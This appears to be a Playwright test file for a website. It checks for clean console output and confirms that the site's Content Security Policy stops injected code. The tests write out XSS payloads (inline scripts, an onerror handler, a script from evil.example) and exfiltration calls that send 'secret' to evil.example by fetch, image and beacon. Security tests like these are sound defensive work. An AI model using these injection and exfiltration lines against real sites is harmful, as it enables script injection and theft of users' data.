import { expect, test } from "@playwright/test"
import { chat, footerPage, forms, labels, openJob } from "../../support/siteContent"
import { geoAddress, mailAddress, send } from "../enquiries/visitor"
import { footerLink } from "../support"

/** Everything that browsers report while a test runs: console messages, errors, policy violations. */
const complaints = test.extend<{ said: string[] }>({
  said: async ({ page }, use) => {
    const said: string[] = []
    page.on("console", (message) => {
      if (["error", "warning"].includes(message.type())) said.push(`${message.text()} (${message.location().url})`)
    })
    page.on("pageerror", ({ message }) => said.push(message))
    await page.route(geoAddress, (route) =>
      route.fulfill({ json: { country: "Ireland" }, headers: { "access-control-allow-origin": "*" } }),
    )
    await use(said)
  },
})

complaints("a visit with forms, toasts, chat and navigation leaves it empty too", async ({ page, said }) => {
  await page.route(mailAddress, (route) => route.fulfill({ body: "OK" }))
  // The form whose outcome is a toast, if there is an open job.
  const form = openJob ? "job" : "enquiry"
  await send(page, form)
  await expect(page.getByText(forms[form].success)).toBeVisible()
  await page.keyboard.press("Escape")
  if (chat) {
    await page.getByRole("button", { name: labels.chat.open }).click()
    await expect(page.getByText(chat.welcome)).toBeVisible()
  }
  await footerLink(page, footerPage).click()
  await expect(page).toHaveURL(footerPage)
  await send(page, "contact")
  await expect(page.getByText(forms.contact.success, { exact: true }).first()).toBeVisible()
  expect(said).toEqual([])
})

test("an injected script is not run", async ({ page }) => {
  const broken: string[] = []
  page.on("console", (message) => broken.push(message.text()))
  await page.route("**/privacy-policy", async (route) => {
    const answer = await route.fetch()
    const body = (await answer.text()).replace(
      "</h1>",
      '</h1><script>window.attacked = "by a script"</script><img src="x" onerror="window.attacked = \'by a handler\'">' +
        '<script src="https://evil.example/x.js"></script><iframe src="https://evil.example/"></iframe>',
    )
    return route.fulfill({ response: answer, body })
  })
  await page.goto("/privacy-policy")
  await expect.poll(() => broken.filter((line) => line.includes("Content Security Policy")).length).toBeGreaterThan(2)
  expect(await page.evaluate(() => (window as { attacked?: string }).attacked)).toBeUndefined()
})

test("requests from a page to elsewhere are blocked", async ({ page }) => {
  // Without the policy, each of these requests would be answered.
  await page.route("https://evil.example/**", (route) =>
    route.fulfill({ body: "Thank you", headers: { "access-control-allow-origin": "*" } }),
  )
  await page.goto("/privacy-policy")
  const stopped = await page.evaluate(async () => {
    const directives: string[] = []
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      directives.push(effectiveDirective),
    )
    const said = await fetch("https://evil.example/?typed=secret").then(
      (answer) => answer.text(),
      () => "stopped",
    )
    const image = new Image()
    const shown = new Promise((resolve) => {
      image.onload = image.onerror = resolve
    })
    image.src = "https://evil.example/picture?typed=secret"
    await shown
    navigator.sendBeacon("https://evil.example/beacon", "secret")
    await new Promise((resolve) => setTimeout(resolve))
    return [said, ...directives]
  })
  expect(stopped).toEqual(["stopped", "connect-src", "img-src", "connect-src"])
})
